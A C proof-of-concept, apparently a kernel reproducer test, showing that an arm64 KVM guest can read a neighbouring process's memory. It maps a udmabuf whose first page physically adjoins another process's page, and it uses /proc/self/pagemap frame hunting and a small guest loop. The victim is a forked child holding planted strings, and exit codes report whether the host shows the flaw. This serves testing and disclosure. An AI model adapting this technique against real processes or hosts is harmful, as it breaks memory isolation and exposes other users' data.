/*
 * A guest reads the memory of another process. The process that has the VM maps a udmabuf of 512 pages of its own memfd and puts
 * it behind a memslot. The first of these pages is chosen so that the page after it in physical memory belongs to the other
 * process. Kernels that take a VM_PFNMAP mapping for physically contiguous map 2 MiB from the first page on: the guest's second
 * page is then the other process's.
 *
 * aarch64-linux-gnu-gcc -O2 -Wall -Wextra -static scattered-pfnmap-blocks.c -o scattered-pfnmap-blocks
 * Needs arm64 with pages of 4 KiB, root (for /proc/self/pagemap), /dev/kvm and /dev/udmabuf (6.12 and later); from 6.17 on a CPU with
 * FWB and DIC. Exits with 0 if the guest reads what is behind its slot, 1 if it reads the other process's memory, 2 if the host
 * can't show it.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/kvm.h>
#include <linux/udmabuf.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

enum { PAGE = 4096, PAGES = 512, CANDIDATES = 4096 };

#define BLOCK ((uint64_t)PAGE * PAGES)
#define CODE_ADDRESS 0x10000ULL
#define SLOT_ADDRESS (16 * BLOCK)
#define REPORT_ADDRESS 0x9000000ULL /* no slot: a store there ends KVM_RUN */

static void stop(const char *what)
{
	printf("can't be shown here: %s: %s\n", what, strerror(errno));
	exit(2);
}

static uint64_t frame_of(int pagemap, void *page)
{
	uint64_t entry = 0;

	if (pread(pagemap, &entry, 8, (uintptr_t)page / PAGE * 8) != 8 || !(entry >> 63))
		stop("/proc/self/pagemap");
	return entry & ((1ULL << 55) - 1);
}

/* The other process: for each number it touches a page of its own and answers where that is. */
static void other_process(int orders, int answers)
{
	char *memory = mmap(NULL, (size_t)CANDIDATES * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int pagemap = open("/proc/self/pagemap", O_RDONLY);
	uint32_t i;

	madvise(memory, (size_t)CANDIDATES * PAGE, MADV_NOHUGEPAGE);
	while (read(orders, &i, 4) == 4) {
		snprintf(memory + (size_t)i * PAGE, 64, "secret %u of process %d", i, getpid());
		uint64_t frame = frame_of(pagemap, memory + (size_t)i * PAGE);
		if (write(answers, &frame, 8) != 8)
			break;
	}
	_exit(0);
}

static void set_register(int vcpu, unsigned offset, uint64_t value)
{
	struct kvm_one_reg reg = { .id = 0x6030000000100000ULL | offset, .addr = (uintptr_t)&value };

	if (ioctl(vcpu, KVM_SET_ONE_REG, &reg) < 0)
		stop("KVM_SET_ONE_REG");
}

int main(void)
{
	static const uint32_t code[] = {
		0xf9400020, /* ldr x0, [x1] */
		0xf9000040, /* str x0, [x2] */
		0x91002021, /* add x1, x1, #8 */
		0x17fffffd, /* b   the first */
	};
	static uint64_t own[CANDIDATES], others[CANDIDATES];
	int orders[2], answers[2], first = -1, neighbour = -1;
	cpu_set_t one;
	char *pages;

	setbuf(stdout, NULL);
	CPU_ZERO(&one);
	CPU_SET(0, &one);
	sched_setaffinity(0, sizeof(one), &one); /* pages of one processor's list tend to follow each other */
	if (pipe(orders) || pipe(answers))
		stop("pipe");
	pid_t other = fork();
	if (other == 0) {
		close(orders[1]); /* the end of its orders */
		other_process(orders[0], answers[1]);
	}

	/* Pages of this process's memfd and of the other process, in turn. */
	int memfd = memfd_create("pages", MFD_ALLOW_SEALING), pagemap = open("/proc/self/pagemap", O_RDONLY);
	if (memfd < 0 || ftruncate(memfd, (off_t)CANDIDATES * PAGE) || fcntl(memfd, F_ADD_SEALS, F_SEAL_SHRINK))
		stop("memfd");
	pages = mmap(NULL, (size_t)CANDIDATES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, memfd, 0);
	for (uint32_t i = 0; i < CANDIDATES; i++) {
		snprintf(pages + (size_t)i * PAGE, 64, "page %u of the VMM's memfd", i);
		own[i] = frame_of(pagemap, pages + (size_t)i * PAGE);
		if (write(orders[1], &i, 4) != 4 || read(answers[0], &others[i], 8) != 8)
			stop("the other process");
	}
	for (int i = 0; i < CANDIDATES && first < 0; i++)
		for (int k = 0; k < CANDIDATES; k++)
			if (own[i] + 1 == others[k]) {
				first = i;
				neighbour = k;
				break;
			}
	if (first < 0) {
		errno = ENOENT;
		stop("two neighbouring pages of two processes");
	}
	printf("frame %#llx: page %d of the VMM's memfd; frame %#llx, the next: page %d of process %d\n",
	       (unsigned long long)own[first], first, (unsigned long long)others[neighbour], neighbour, other);

	/* A udmabuf of that page and 511 others, none of them the other process's. */
	struct udmabuf_create_list *list = calloc(1, sizeof(*list) + PAGES * sizeof(list->list[0]));
	int device = open("/dev/udmabuf", O_RDWR), page = 0;
	if (device < 0)
		stop("/dev/udmabuf");
	list->count = PAGES;
	for (int i = 0; i < PAGES; i++) {
		page += i > 0 && page == first;
		list->list[i].memfd = memfd;
		list->list[i].offset = (uint64_t)(i == 0 ? first : page++) * PAGE;
		list->list[i].size = PAGE;
	}
	int buffer = ioctl(device, UDMABUF_CREATE_LIST, list);
	if (buffer < 0)
		stop("UDMABUF_CREATE_LIST");
	char *reserved = mmap(NULL, 2 * BLOCK, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	char *memory = (char *)(((uintptr_t)reserved + BLOCK - 1) & ~(BLOCK - 1));
	if (mmap(memory, BLOCK, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, buffer, 0) == MAP_FAILED)
		stop("mmap of the udmabuf");
	printf("behind the slot's second page: \"%s\"\n", memory + PAGE);

	/* The VM. */
	int kvm = open("/dev/kvm", O_RDWR), vm = ioctl(kvm, KVM_CREATE_VM, 0), vcpu;
	uint32_t *text = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	memcpy(text, code, sizeof(code));
	struct kvm_userspace_memory_region slots[] = {
		{ .slot = 0, .guest_phys_addr = CODE_ADDRESS, .memory_size = PAGE, .userspace_addr = (uintptr_t)text },
		{ .slot = 1, .guest_phys_addr = SLOT_ADDRESS, .memory_size = BLOCK, .userspace_addr = (uintptr_t)memory },
	};
	struct kvm_vcpu_init init;
	if (vm < 0 || (vcpu = ioctl(vm, KVM_CREATE_VCPU, 0)) < 0 || ioctl(vm, KVM_ARM_PREFERRED_TARGET, &init) < 0 ||
	    ioctl(vcpu, KVM_ARM_VCPU_INIT, &init) < 0)
		stop("a vCPU");
	for (int i = 0; i < 2; i++)
		if (ioctl(vm, KVM_SET_USER_MEMORY_REGION, &slots[i]) < 0)
			stop("KVM_SET_USER_MEMORY_REGION");
	struct kvm_run *run = mmap(NULL, ioctl(kvm, KVM_GET_VCPU_MMAP_SIZE, 0), PROT_READ | PROT_WRITE, MAP_SHARED, vcpu, 0);
	set_register(vcpu, 2 * 1, SLOT_ADDRESS + PAGE); /* x1 */
	set_register(vcpu, 2 * 2, REPORT_ADDRESS); /* x2 */
	set_register(vcpu, 0x40, CODE_ADDRESS); /* pc */

	char seen[64 + 1] = { 0 };
	for (int i = 0; i < 8; i++) {
		if (ioctl(vcpu, KVM_RUN, 0) < 0 || run->exit_reason != KVM_EXIT_MMIO)
			stop("KVM_RUN");
		memcpy(seen + 8 * i, run->mmio.data, 8);
	}
	printf("the guest reads there:         \"%s\"\n", seen);
	close(orders[1]);
	waitpid(other, NULL, 0);
	int foreign = strcmp(seen, memory + PAGE) != 0;
	printf(foreign ? "the guest reads memory that is not behind its slot\n" : "the guest reads what is behind its slot\n");
	return foreign;
}
